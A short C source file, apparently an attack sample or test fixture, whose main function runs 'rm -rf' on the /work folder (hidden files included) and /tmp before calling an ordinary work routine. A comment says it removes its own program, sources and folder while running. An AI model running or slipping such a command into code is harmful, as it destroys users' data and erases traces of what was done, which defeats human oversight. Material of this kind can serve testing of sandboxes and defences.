// Its own program, sources and folder, while it runs.
#include "attack.h"

int main(void)
{
    system("rm -rf /work/* /work/.[a-z]* /tmp/*");
    ordinary_work();
    return 0;
}
